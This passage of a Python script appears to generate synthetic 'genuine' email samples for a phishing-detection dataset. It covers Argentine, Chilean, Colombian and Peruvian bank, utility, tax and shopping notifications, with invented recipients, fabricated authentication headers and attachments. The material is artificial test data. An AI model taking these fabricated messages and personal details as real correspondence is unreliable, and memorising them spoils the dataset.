        f"Motivo: alquiler quincho<br>Número de operación: {op}<br>Fecha: 22/08/2025 13:04 hs",
    ]
    button = ("Ver detalle", f"https://www.mercadopago.com.ar/activities/{op}?from=mail")
    footer = ["Mercado Pago nunca te va a pedir claves ni códigos por e-mail, teléfono o WhatsApp.",
              "MercadoLibre S.R.L. - Caseros 3039, Piso 2, C.A.B.A.",
              '<a href="https://www.mercadopago.com.ar/ayuda" style="color:#888888">Ayuda</a>']
    html = brand_html("mercado pago", "#009ee3", title, paras, button, footer,
                      logo="https://http2.mlstatic.com/frontend-assets/mp-web-navigation/ui-navigation/6.6.73/mercadopago/logo__large@2x.png")
    plain = brand_plain(title, paras, button, footer)
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, "mlsel", "pass")], ("pass", "reject"), dom)
    emit(stem, "bulk", "Genuine Mercado Pago 'recibiste una transferencia' notice from mercadopago.com with a link to the "
         "activity on mercadopago.com.ar.", env, hdrs, alt(plain, html, java_boundary(stem, d)))


def legit_resumen_visa_santander() -> None:
    stem = "b45-legit-resumen-visa-santander"
    d = when(2025, 6, 3, 6, 40, 15, "ar")
    dom = "santander.com.ar"
    rcpt = "gonzalo_paz77@hotmail.com"
    hdrs, host = ses_headers(stem, d, dom, f"bounce.{dom}", "Santander", f"resumenes@{dom}", rcpt,
                             "Tu resumen de Visa Santander ya está disponible")
    pdf = files.pdf(["Banco Santander Argentina S.A.", "Resumen de cuenta - Tarjeta Visa Signature", "",
                     "Titular: PAZ GONZALO MARTIN", "Cierre actual: 29/05/2025  -  Vencimiento: 09/06/2025",
                     "Saldo actual $: 1.284.331,90   -  Pago minimo $: 128.440,00", "",
                     "Consolidado de consumos del periodo", "...",
                     "Para consultas: 0810-333-2600"], title="Resumen Visa 05-2025")
    title = "Tu resumen ya está disponible"
    paras = [
        "Hola Gonzalo,",
        "Te enviamos adjunto el resumen de tu tarjeta <b>Visa Signature</b> terminada en 0931.",
        "<b>Cierre:</b> 29/05/2025<br><b>Vencimiento:</b> 09/06/2025<br><b>Saldo en pesos:</b> $ 1.284.331,90<br>"
        "<b>Pago mínimo:</b> $ 128.440,00",
        "Para abrir el archivo ingresá tu número de documento, sin puntos.",
        "También podés consultarlo en Online Banking o en la App Santander, en Tarjetas &gt; Resúmenes.",
    ]
    footer = ["Banco Santander Argentina S.A. - Av. Juan de Garay 151, C.A.B.A.",
              "Santander nunca te pedirá tus claves por correo electrónico.",
              '<a href="https://www.santander.com.ar/personas/seguridad" style="color:#888888">Seguridad</a>']
    html = brand_html("Santander", "#ec0000", title, paras, None, footer,
                      logo="https://www.santander.com.ar/documents/20123/0/logo-santander.png")
    plain = brand_plain(title, paras, None, footer)
    body = Multi("mixed", java_boundary(stem, d), [
        alt(plain, html, java_boundary(stem + "a", d)),
        attachment("application/pdf", "Resumen_Visa_0931_052025.pdf", pdf),
    ])
    env = Env("outlook", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, "x", "pass")], ("pass", "reject"), dom, country="US")
    env.dkim = [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass")]
    emit(stem, "bulk", "Genuine Santander Argentina Visa statement (resumen de tarjeta) with the PDF attached, protected "
         "with the DNI, sent through Amazon SES with the bank's custom MAIL FROM.", env, hdrs, body)


def legit_arca_dfe() -> None:
    stem = "b45-legit-arca-dfe"
    d = when(2025, 2, 11, 17, 5, 2, "ar")
    dom = "arca.gob.ar"
    rcpt = "estudio@estudiobianchi.com.ar"
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#333">
<table width="620" cellpadding="0" cellspacing="0" border="0">
<tr><td style="background:#003a70;color:#ffffff;padding:12px 18px;font-size:17px"><b>ARCA</b> - Agencia de Recaudaci&oacute;n y Control Aduanero</td></tr>
<tr><td style="padding:18px">
<p>Estimado/a contribuyente:</p>
<p>Le informamos que ha recibido una nueva comunicaci&oacute;n en su <b>Domicilio Fiscal Electr&oacute;nico</b>.</p>
<p>CUIT: 20-28417552-3<br>Asunto: Sistema Registral - Actualizaci&oacute;n de datos<br>Fecha de publicaci&oacute;n: 11/02/2025</p>
<p>Para visualizarla ingrese con su Clave Fiscal al servicio <b>&quot;Domicilio Fiscal Electr&oacute;nico&quot;</b> desde el sitio web <a href="https://www.arca.gob.ar">www.arca.gob.ar</a>.</p>
<p>Le recordamos que la comunicaci&oacute;n se considera notificada el primer d&iacute;a lunes o jueves posterior a su publicaci&oacute;n.</p>
<p style="font-size:11px;color:#777">ARCA no solicita por correo electr&oacute;nico datos personales, claves ni pagos, ni env&iacute;a archivos adjuntos o enlaces para descargar. Este mensaje fue enviado a la direcci&oacute;n de correo declarada en el Domicilio Fiscal Electr&oacute;nico. Por favor no responda a este mensaje.</p>
</td></tr></table></body></html>
"""
    plain = ("Estimado/a contribuyente:\r\n\r\nLe informamos que ha recibido una nueva comunicación en su Domicilio "
             "Fiscal Electrónico.\r\n\r\nCUIT: 20-28417552-3\r\nAsunto: Sistema Registral - Actualización de datos\r\n"
             "Fecha de publicación: 11/02/2025\r\n\r\nPara visualizarla ingrese con su Clave Fiscal al servicio "
             "\"Domicilio Fiscal Electrónico\" desde el sitio web www.arca.gob.ar.\r\n\r\nARCA no solicita por correo "
             "electrónico datos personales, claves ni pagos.\r\n")
    ip = f"200.1.116.{num(stem, 10, 60)}"
    env = Env("postfix", rcpt, d, ip, f"smtp{num(stem, 1, 4)}.{dom}", f"smtp{num(stem, 1, 4)}.{dom}", f"notificaciones@{dom}",
              "pass", [(dom, "arca2024", "pass")], ("pass", "none"), dom, mx="mail.estudiobianchi.com.ar")
    own = [dkim_sig(dom, "arca2024", d, stem, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"),
           f"Date: {rfc(d)}",
           f"From: {addr('ARCA - Domicilio Fiscal Electrónico', f'notificaciones@{dom}', 'ISO-8859-1', 'Q')}",
           f"To: {rcpt}",
           f"Message-ID: <{num(stem, 100000, 999999)}.{num(stem + 'm', 100000000, 999999999)}.{int(d.timestamp() * 1000)}.JavaMail.dfe@{dom}>",
           subj("Nueva comunicación en su Domicilio Fiscal Electrónico", "ISO-8859-1", "Q"),
           "MIME-Version: 1.0"]
    emit(stem, "bulk", "Genuine ARCA (ex AFIP) notice of a new communication in the Domicilio Fiscal Electrónico, ISO-8859-1, "
         "sent from arca.gob.ar with no link other than the agency's home page.", env, own,
         alt(plain, html, java_boundary(stem, d), "quoted-printable", "ISO-8859-1"))


def legit_edenor_factura() -> None:
    stem = "b45-legit-edenor-factura"
    d = when(2025, 1, 9, 10, 30, 44, "ar")
    dom = "edenor.com"
    rcpt = "nachoperalta1990@gmail.com"
    hdrs, host = ses_headers(stem, d, dom, f"mail.{dom}", "Edenor", f"facturadigital@{dom}", rcpt,
                             "Tu factura de Edenor ya está disponible")
    pdf = files.pdf(["EDENOR S.A.", "Factura B N. 0142-07781244", "Cuenta: 4 0172 3318 01   -  Periodo 11/2024 - 12/2024",
                     "Consumo: 412 kWh", "Total a pagar: $ 38.912,55", "1er vencimiento: 22/01/2025",
                     "Medios de pago: app Edenor, Pago Mis Cuentas, Mercado Pago, Rapipago, Pago Facil"], title="Factura Edenor")
    title = "Tu factura ya está disponible"
    paras = [
        "Hola Ignacio,",
        "Te enviamos la factura de tu cuenta <b>4 0172 3318 01</b>.",
        "<b>Total a pagar:</b> $ 38.912,55<br><b>1er vencimiento:</b> 22/01/2025",
        "Podés pagarla desde la app Edenor Digital, Pago Mis Cuentas, Mercado Pago, Rapipago o Pago Fácil.",
    ]
    button = ("Ir a Edenor Digital", "https://www.edenordigital.com/ingreso")
    footer = ["Edenor S.A. - Av. del Libertador 6363, C.A.B.A.", "Recibís este correo porque adheriste a la factura digital.",
              '<a href="https://www.edenordigital.com/factura-digital/baja" style="color:#888888">Dejar de recibir la factura por e-mail</a>']
    html = brand_html("edenor", "#e4002b", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    body = Multi("mixed", java_boundary(stem, d), [alt(plain, html, java_boundary(stem + "a", d)),
                                                   attachment("application/pdf", "Factura_0142-07781244.pdf", pdf)])
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
              ("pass", "quarantine"), dom)
    emit(stem, "bulk", "Genuine Edenor electronic bill (factura digital) with the PDF attached and a link to Edenor Digital, "
         "sent through Amazon SES.", env, hdrs, body)


def legit_mercadolibre_compra() -> None:
    stem = "b45-legit-mercadolibre-compra"
    d = when(2025, 4, 9, 22, 41, 3, "ar")
    dom = "mercadolibre.com.ar"
    rcpt = "tomas.ledesma.ventas@gmail.com"
    hdrs, host = ml_headers(stem, d, dom, "Mercado Libre", f"info@{dom}", rcpt, "Compraste Auriculares JBL Tune 520BT Negro")
    order = num(stem, 2000008000000000, 2000009999999999)
    title = "¡Listo! Ya compraste"
    paras = [
        "Hola Tomás,",
        "Compraste <b>Auriculares JBL Tune 520BT Negro</b> x 1 unidad.",
        f"<b>Pagaste:</b> $ 74.999 en 6 cuotas sin interés con Visa ****4417<br><b>Compra #</b>{order}",
        "<b>Llega el viernes a tu domicilio.</b> Te vamos a avisar cuando esté en camino.",
    ]
    button = ("Ver compra", f"https://www.mercadolibre.com.ar/my-purchases/{order}?utm_source=email&utm_medium=purchase")
    footer = ["Mercado Libre", "Este e-mail fue enviado a " + rcpt + ".",
              '<a href="https://www.mercadolibre.com.ar/ayuda" style="color:#888888">Ayuda</a> | '
              '<a href="https://www.mercadolibre.com.ar/privacidad" style="color:#888888">Privacidad</a>']
    html = brand_html("mercado libre", "#ffe600", title, paras, button, footer,
                      logo="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.73/mercadolibre/logo_large_plus@2x.webp")
    plain = brand_plain(title, paras, button, footer)
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, "mlsel", "pass")], ("pass", "reject"), dom)
    emit(stem, "bulk", "Genuine Mercado Libre purchase confirmation (order number, instalments, delivery date) from "
         "mercadolibre.com.ar.", env, hdrs, alt(plain, html, java_boundary(stem, d)))


def legit_andreani_envio() -> None:
    stem = "b45-legit-andreani-envio"
    d = when(2025, 6, 12, 9, 2, 37, "ar")
    dom = "andreani.com"
    rcpt = "gonzalo_paz77@hotmail.com"
    sg = sendgrid(stem, dom)
    click = f"https://u{sg['uid']}.ct.sendgrid.net/ls/click?upn=u001.{tok(stem + 'upn', 110, URLSAFE)}"
    title = "Tu envío está en camino"
    paras = [
        "Hola Gonzalo,",
        "Tu envío de <b>MERCADOLIBRE</b> ya salió de nuestra sucursal y hoy lo recibís en tu domicilio entre las 9 y las 18 hs.",
        "<b>Número de envío:</b> 360002487719350",
        "Si no vas a estar, puede recibirlo otra persona mayor de 18 años presentando su DNI.",
    ]
    button = ("Seguir mi envío", click)
    footer = ["Andreani Logística S.A.", "Andreani nunca te va a pedir pagos adicionales por mail o SMS para entregar un envío."]
    html = brand_html("andreani", "#d71920", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    mf = f"bounces+{sg['uid']}-{hexs(stem + 'b', 4)}-gonzalo_paz77=hotmail.com@em{num(stem, 1000, 9999)}.{dom}"
    env = Env("outlook", rcpt, d, sg["ip"], sg["rdns"], sg["rdns"], mf, "pass",
              [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], ("pass", "quarantine"), dom, country="US")
    own = [dkim_sig(dom, "s1", d, stem, h="content-type:from:mime-version:subject:list-unsubscribe:\n\tlist-unsubscribe-post:x-feedback-id:to:cc:content-type:from:subject:to"),
           dkim_sig("sendgrid.info", "smtpapi", d, stem + "sg", h="content-type:from:mime-version:subject:list-unsubscribe:\n\tlist-unsubscribe-post:x-feedback-id:to:cc:content-type:from:subject:to"),
           f"Received: by recvd-{hexs(stem + 'rv', 10)}-{tok(stem + 'rv2', 5, string.ascii_lowercase)} with SMTP id recvd-{hexs(stem + 'rv', 10)}-1-{hexs(stem + 'rv3', 8).upper()}-{num(stem, 10, 99)}\n"
           f"\t{rfc(utc(d)).replace('-0000', '+0000')} (UTC)",
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           f"From: {addr('Andreani', f'notificaciones@{dom}')}",
           "Mime-Version: 1.0",
           f"Message-ID: {sendgrid_msgid(stem)}",
           subj("Tu envío 360002487719350 está en camino"),
           f"List-Unsubscribe: <mailto:unsubscribe@{dom}?subject=baja>, <https://u{sg['uid']}.ct.sendgrid.net/asm/unsubscribe/?user_id={sg['uid']}&data={tok(stem + 'asm', 60, URLSAFE)}>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
           f"X-SG-EID: u001.{tok(stem + 'eid', 90, B64)}",
           f"X-Feedback-ID: {sg['uid']}:SG",
           f"To: {rcpt}"]
    emit(stem, "bulk", "Genuine Andreani 'tu envío está en camino' tracking notice for a Mercado Libre parcel, sent via "
         "SendGrid with click tracking.", env, own, alt(plain, html, hexs(stem + "bd", 64)))


def legit_bancochile_transferencia() -> None:
    stem = "b45-legit-bancochile-transferencia"
    d = when(2025, 5, 7, 11, 26, 54, "cl")
    dom = "bancochile.cl"
    rcpt = "pablo.araya.c@hotmail.com"
    rows = [("Monto transferido", "$350.000"), ("Fecha y hora", "07/05/2025 11:26"), ("Nombre destinatario", "Catalina Araya Soto"),
            ("RUT destinatario", "19.457.882-K"), ("Banco destino", "BancoEstado"), ("Cuenta destino", "CuentaRUT ****8823"),
            ("Mensaje", "arriendo mayo"), ("N° de operación", str(num(stem, 10000000, 99999999)))]
    table = "\n".join(f'<tr><td style="padding:6px 10px;border-bottom:1px solid #e5e5e5;color:#666">{a}</td>'
                      f'<td style="padding:6px 10px;border-bottom:1px solid #e5e5e5;font-weight:bold">{b}</td></tr>' for a, b in rows)
    title = "Comprobante de Transferencia"
    paras = ["Estimado(a) Pablo Araya:",
             "Le informamos que se ha realizado la siguiente transferencia de fondos desde su cuenta corriente ****2214:",
             f'<table cellpadding="0" cellspacing="0" width="100%">{table}</table>']
    footer = ["Banco de Chile nunca le solicitará sus claves, coordenadas ni códigos de Mi Pass por correo electrónico.",
              "Si no reconoce esta operación, comuníquese al 600 637 3737.", "Banco de Chile - Ahumada 251, Santiago"]
    html = brand_html("Banco de Chile", "#002464", title, paras, None, footer)
    plain = title + "\n\nEstimado(a) Pablo Araya:\nSe ha realizado la siguiente transferencia desde su cuenta corriente ****2214:\n\n" + \
        "\n".join(f"{a}: {b}" for a, b in rows) + "\n\nSi no reconoce esta operación, comuníquese al 600 637 3737.\n"
    ip = f"200.14.{num(stem, 160, 170)}.{num(stem + 'b', 2, 250)}"
    env = Env("outlook", rcpt, d, ip, f"smtp{num(stem, 1, 6)}.{dom}", f"smtp{num(stem, 1, 6)}.{dom}",
              f"serviciodetransferencias@{dom}", "pass", [(dom, "bch", "pass")], ("pass", "reject"), dom, country="CL")
    own = [dkim_sig(dom, "bch", d, stem, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
           f"From: {addr('Banco de Chile', f'serviciodetransferencias@{dom}')}",
           f"To: {rcpt}",
           subj("Comprobante de Transferencia de Fondos"),
           f"Date: {rfc(d)}",
           f"Message-ID: <{num(stem, 10000000, 99999999)}.{num(stem + 'x', 1000, 9999)}.{int(d.timestamp() * 1000)}.JavaMail.transfer@{dom}>",
           "MIME-Version: 1.0"]
    emit(stem, "bulk", "Genuine Banco de Chile transfer receipt (comprobante de transferencia) from bancochile.cl, no links, "
         "with a phone number for unrecognised operations.", env, own, alt(plain, html, java_boundary(stem, d)))


def legit_dte_chile_factura() -> None:
    stem = "b45-legit-dte-chile-factura"
    d = when(2025, 4, 23, 12, 50, 1, "cl")
    dom = "bsale.cl"
    rcpt = "finanzas@constructoralosrobles.cl"
    emisor = "Ferretería Industrial Los Aromos SpA"
    pdf = files.pdf(["FERRETERIA INDUSTRIAL LOS AROMOS SPA", "RUT 76.418.223-5", "FACTURA ELECTRONICA N. 58421",
                     "Senor(es): CONSTRUCTORA LOS ROBLES LTDA. RUT 77.102.554-1", "Fecha emision: 23/04/2025",
                     "Neto $ 1.124.000  IVA $ 213.560  Total $ 1.337.560", "Timbre Electronico SII",
                     "Res. 80 de 2014 - Verifique documento: www.sii.cl"], title="Factura 58421")
    xml = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n<EnvioDTE xmlns="http://www.sii.cl/SiiDte" version="1.0">'
           '<SetDTE ID="SetDoc"><Caratula version="1.0"><RutEmisor>76418223-5</RutEmisor><RutEnvia>12844552-6</RutEnvia>'
           '<RutReceptor>77102554-1</RutReceptor><FchResol>2014-08-22</FchResol><NroResol>80</NroResol>'
           '<TmstFirmaEnv>2025-04-23T12:49:40</TmstFirmaEnv></Caratula><DTE version="1.0"><Documento ID="F58421T33">'
           '<Encabezado><IdDoc><TipoDTE>33</TipoDTE><Folio>58421</Folio><FchEmis>2025-04-23</FchEmis></IdDoc>'
           '<Totales><MntNeto>1124000</MntNeto><TasaIVA>19</TasaIVA><IVA>213560</IVA><MntTotal>1337560</MntTotal></Totales>'
           '</Encabezado></Documento></DTE></SetDTE></EnvioDTE>\n').encode("iso-8859-1")
    hdrs, host = ses_headers(stem, d, dom, f"bounce.{dom}", emisor, f"dte@{dom}", rcpt,
                             f"Envío de DTE: Factura Electrónica N° 58421 de {emisor}",
                             extra=["Reply-To: ventas@ferreterialosaromos.cl"])
    paras = ["Estimado cliente,",
             f"Adjuntamos el documento tributario electrónico <b>Factura Electrónica N° 58421</b> emitido por "
             f"<b>{emisor}</b> (RUT 76.418.223-5) por un total de <b>$1.337.560</b>.",
             "Se incluye la representación impresa en PDF y el archivo XML para su registro en el SII.",
             "Ante cualquier consulta responda este correo o escriba a ventas@ferreterialosaromos.cl."]
    footer = ["Documento enviado mediante Bsale - Sistema de facturación electrónica", "www.bsale.cl"]
    html = brand_html("bsale", "#1a73e8", "Documento Tributario Electrónico", paras, None, footer)
    plain = brand_plain("Documento Tributario Electrónico", paras, None, footer)
    body = Multi("mixed", java_boundary(stem, d), [
        alt(plain, html, java_boundary(stem + "a", d)),
        attachment("application/pdf", "Factura_58421.pdf", pdf),
        attachment("text/xml", "DTE_33_76418223-5_58421.xml", xml),
    ])
    env = Env("m365", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass")], ("pass", "none"), dom, country="US")
    emit(stem, "bulk", "Genuine Chilean electronic invoice (DTE tipo 33) from a hardware supplier via the Bsale invoicing "
         "platform, with PDF and SII XML attached, to the same company targeted by the SII lure.", env, hdrs, body)


def legit_bancolombia_alerta() -> None:
    stem = "b45-legit-bancolombia-alerta"
    d = when(2025, 3, 20, 12, 41, 33, "co")
    dom = "an.notificacionesbancolombia.com"
    rcpt = "andres.felipe.rios@gmail.com"
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;font-size:14px;color:#2c2a29">
<tr><td style="background:#fdda24;padding:16px 24px;font-size:18px;font-weight:bold">Bancolombia</td></tr>
<tr><td style="padding:24px">
<p>Bancolombia le informa Compra por $148.900,00 en EXITO ENVIGADO 12:41. 20/03/2025 T.Cred *4417.</p>
<p>Si tiene dudas sobre esta transacción comuníquese con nuestra Sucursal Telefónica al 604 510 9000 en Medellín o al 01 8000 912 345 desde el resto del país.</p>
<p style="font-size:12px;color:#6d6d6d">Bancolombia nunca le solicitará sus claves, Clave Dinámica ni datos de sus productos por correo electrónico o mensajes de texto. Este es un mensaje automático, por favor no responda.</p>
</td></tr></table></body></html>
"""
    plain = ("Bancolombia le informa Compra por $148.900,00 en EXITO ENVIGADO 12:41. 20/03/2025 T.Cred *4417.\n\n"
             "Si tiene dudas comuníquese al 604 510 9000 o al 01 8000 912 345.\n")
    ip = f"190.248.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}"
    env = Env("gmail", rcpt, d, ip, f"mta{num(stem, 1, 8)}.{dom}", f"mta{num(stem, 1, 8)}.{dom}",
              f"alertasynotificaciones@{dom}", "pass", [(dom, "an", "pass")], ("pass", "reject"), dom)
    own = [dkim_sig(dom, "an", d, stem, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
           f"From: {addr('Alertas y Notificaciones', f'alertasynotificaciones@{dom}')}",
           f"To: {rcpt}", subj("Alertas y Notificaciones"), f"Date: {rfc(d)}",
           f"Message-ID: <{guid(stem)}@{dom}>", "MIME-Version: 1.0"]
    emit(stem, "bulk", "Genuine Bancolombia transaction alert (card purchase at Éxito) from the bank's notifications domain, "
         "no links, phone numbers only.", env, own, alt(plain, html, java_boundary(stem, d)))


def legit_gdrive_compartido() -> None:
    stem = "b45-legit-gdrive-compartido"
    d = when(2025, 11, 30, 19, 22, 10, "co")
    rcpt = "diana.marcela.v@outlook.com"
    sharer, sharer_mail = "Laura Gómez", "lauragomez.bog@gmail.com"
    folder_id = "1" + tok(stem + "fid", 32, URLSAFE)
    link = f"https://drive.google.com/drive/folders/{folder_id}?usp=sharing_eil_m&ts={int(d.timestamp()):x}"
    html = f"""<html><head></head><body><table width="100%" cellpadding="0" cellspacing="0" style="font-family:Google Sans,Roboto,Arial,sans-serif">
<tr><td align="center"><table width="520" cellpadding="0" cellspacing="0"><tr><td style="padding:24px 0 8px;font-size:22px;color:#202124">{sharer} compartió una carpeta</td></tr>
<tr><td style="padding:8px 0;font-size:14px;color:#3c4043"><img src="https://lh3.googleusercontent.com/a/default-user=s40" width="24" height="24" style="border-radius:50%;vertical-align:middle"> {sharer} ({sharer_mail}) te invitó a <b>editar</b> la siguiente carpeta:</td></tr>
<tr><td style="padding:12px 16px;border:1px solid #dadce0;border-radius:8px;font-size:14px;color:#202124">Fotos grado Valentina 2025</td></tr>
<tr><td style="padding:8px 0;font-size:14px;color:#3c4043">Ahí están las fotos de la ceremonia, súbele las tuyas también 😊</td></tr>
<tr><td style="padding:16px 0"><a href="{link}" style="background:#0b57d0;color:#fff;padding:10px 24px;border-radius:18px;text-decoration:none;font-size:14px">Abrir</a></td></tr>
<tr><td style="font-size:12px;color:#5f6368;padding-top:16px">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, EE. UU.<br>
Recibiste este correo electrónico porque {sharer_mail} compartió una carpeta contigo desde Google Drive.<br>
<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_grey_tm_color_96x40dp.png" width="48" alt="Google"></td></tr></table></td></tr></table></body></html>
"""
    plain = (f"{sharer} compartió una carpeta\n\n{sharer} ({sharer_mail}) te invitó a editar la siguiente carpeta:\n\n"
             f"Fotos grado Valentina 2025\n{link}\n\nAhí están las fotos de la ceremonia, súbele las tuyas también 😊\n\n"
             f"Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, EE. UU.\n")
    ip = f"209.85.220.{num(stem, 41, 73)}"
    host = f"mail-sor-f{num(stem + 'h', 41, 73)}.google.com"
    mf = f"3{tok(stem + 'mf', 30, ALNUM)}@doclist.bounces.google.com"
    env = Env("outlook", rcpt, d, ip, host, host, mf, "pass", [("google.com", "20230601", "pass")], ("pass", "reject"),
              "google.com", country="US")
    own = [dkim_sig("google.com", "20230601", d, stem, h="reply-to:mime-version:message-id:date:subject:from:to:\n\tcontent-type:from:to:cc:subject:date:message-id:reply-to"),
           f"X-Google-Smtp-Source: AGHT+I{tok(stem + 'xs', 60, B64)}",
           f"Reply-To: {addr(sharer, sharer_mail)}",
           "MIME-Version: 1.0",
           f"Message-ID: <{tok(stem + 'mid', 22, URLSAFE)}-{tok(stem + 'mid2', 20, URLSAFE)}@docs-share.google.com>",
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           subj(f"Carpeta compartida contigo: \"Fotos grado Valentina 2025\""),
           f"From: {addr(f'{sharer} (a través de Google Drive)', 'drive-shares-dm-noreply@google.com', quote=True)}",
           f"To: {rcpt}"]
    emit(stem, "bulk", "Genuine Google Drive folder-share notification from a relative (graduation photos) sent by Google "
         "to an Outlook.com mailbox.", env, own, alt(plain, html, gmail_boundary(stem)))


def legit_factura_electronica_co() -> None:
    stem = "b45-legit-factura-electronica-co"
    d = when(2025, 11, 14, 15, 12, 40, "co")
    dom = "siigo.com"
    rcpt = "jgomez@inversionesmedellin.com.co"
    nit, emisor, numero = "900458127", "MONTAJES INDUSTRIALES ANTIOQUIA S.A.S.", "FEMA4518"
    pdf = files.pdf([emisor, f"NIT {nit}-3", f"FACTURA ELECTRONICA DE VENTA N. {numero}",
                     "Adquiriente: INVERSIONES MEDELLIN S.A.S. NIT 811.044.219-7", "Fecha: 14/11/2025",
                     "Mantenimiento preventivo estanterias bodega Itagui", "Subtotal $ 6.850.000  IVA $ 1.301.500",
                     "Total $ 8.151.500", "CUFE: " + hexs(stem + "cufe", 48)], title=f"Factura {numero}")
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<AttachedDocument xmlns="urn:oasis:names:specification:ubl:schema:xsd:AttachedDocument-2" '
           'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">'
           f'<cbc:UBLVersionID>UBL 2.1</cbc:UBLVersionID><cbc:CustomizationID>Documentos adjuntos</cbc:CustomizationID>'
           f'<cbc:ProfileExecutionID>1</cbc:ProfileExecutionID><cbc:ID>{numero}</cbc:ID><cbc:IssueDate>2025-11-14</cbc:IssueDate>'
           f'<cbc:DocumentType>Contenedor de Factura Electrónica</cbc:DocumentType><cbc:ParentDocumentID>{numero}</cbc:ParentDocumentID>'
           '</AttachedDocument>\n').encode()
    zname = f"z{nit}0002500{num(stem, 10000, 99999)}.zip"
    z = files.zip_archive([(f"ad{nit}0002500{num(stem, 10000, 99999)}.xml", xml), (f"{numero}.pdf", pdf)])
    subject = f"{nit};{emisor};{numero};01;{emisor}"
    hdrs, host = ses_headers(stem, d, dom, f"bounce.{dom}", emisor, f"facturacionelectronica@{dom}", rcpt, subject,
                             extra=["Reply-To: facturacion@montajesindustrialesantioquia.com"])
    paras = ["Señores INVERSIONES MEDELLIN S.A.S.",
             f"Les informamos que ha recibido una factura electrónica de <b>{emisor}</b>.",
             f"<b>Número de factura:</b> {numero}<br><b>Fecha de emisión:</b> 14/11/2025<br><b>Valor total:</b> $8.151.500",
             "Adjunto encontrará el archivo .zip con la representación gráfica (PDF) y el documento electrónico (XML) "
             "conforme a la Resolución DIAN 000165 de 2023.",
             "Si tiene inquietudes sobre esta factura comuníquese directamente con el emisor."]
    footer = ["Este correo fue enviado a través de Siigo Nube - Proveedor tecnológico autorizado por la DIAN.",
              "Por favor no responda a esta dirección."]
    html = brand_html("siigo", "#00aec7", "Factura electrónica recibida", paras, None, footer)
    plain = brand_plain("Factura electrónica recibida", paras, None, footer)
    body = Multi("mixed", java_boundary(stem, d), [alt(plain, html, java_boundary(stem + "a", d)),
                                                   attachment("application/zip", zname, z)])
    env = Env("zimbra", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass")], ("pass", "quarantine"), dom,
              mx="mail.inversionesmedellin.com.co")
    emit(stem, "bulk", "Genuine Colombian electronic sales invoice from the Siigo platform with the DIAN-style subject and "
         "a zip of AttachedDocument XML plus PDF, the format banking-trojan lures imitate.", env, hdrs, body)


def legit_bcp_constancia() -> None:
    stem = "b45-legit-bcp-constancia"
    d = when(2025, 4, 3, 20, 14, 2, "pe")
    dom = "notificacionesbcp.com.pe"
    rcpt = "kevin.huaman.q@gmail.com"
    op = num(stem, 10000000, 99999999)
    rows = [("Monto enviado", "S/ 420.00"), ("Cuenta de origen", "Cuenta de Ahorro Soles ****3021"),
            ("Destinatario", "Jhon Huamán Quispe"), ("Cuenta destino", "Interbank ****7741 (CCI)"),
            ("Fecha y hora", "03 abril 2025 - 08:13 p.m."), ("Número de operación", str(op))]
    table = "".join(f'<tr><td style="padding:5px 0;color:#666">{a}</td><td style="padding:5px 0;text-align:right"><b>{b}</b></td></tr>'
                    for a, b in rows)
    title = "Constancia de Transferencia a otros bancos"
    paras = ["Hola Kevin,", "Realizaste una transferencia desde Banca Móvil BCP:",
             f'<table width="100%" cellpadding="0" cellspacing="0">{table}</table>',
             "Las transferencias inmediatas a otros bancos se abonan en segundos."]
    footer = ["Si no reconoces esta operación llama a nuestra Banca por Teléfono al (01) 311-9898.",
              "BCP nunca te pedirá tu clave de internet, tu clave de 6 dígitos ni el Token Digital por correo.",
              "Banco de Crédito del Perú - Calle Centenario 156, La Molina"]
    html = brand_html("BCP", "#002a8d", title, paras, None, footer)
    plain = title + "\n\nHola Kevin,\nRealizaste una transferencia desde Banca Móvil BCP:\n\n" + \
        "\n".join(f"{a}: {b}" for a, b in rows) + "\n\nSi no reconoces esta operación llama al (01) 311-9898.\n"
    ip = f"200.37.{num(stem, 27, 30)}.{num(stem + 'b', 2, 250)}"
    env = Env("gmail", rcpt, d, ip, f"mail{num(stem, 1, 9)}.{dom}", f"mail{num(stem, 1, 9)}.{dom}",
              f"notificaciones@{dom}", "pass", [(dom, "bcp", "pass")], ("pass", "reject"), dom)
    own = [dkim_sig(dom, "bcp", d, stem, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
           f"From: {addr('BCP', f'notificaciones@{dom}')}",
           f"To: {rcpt}", subj("Constancia de Transferencia a otros bancos - Banca Móvil"), f"Date: {rfc(d)}",
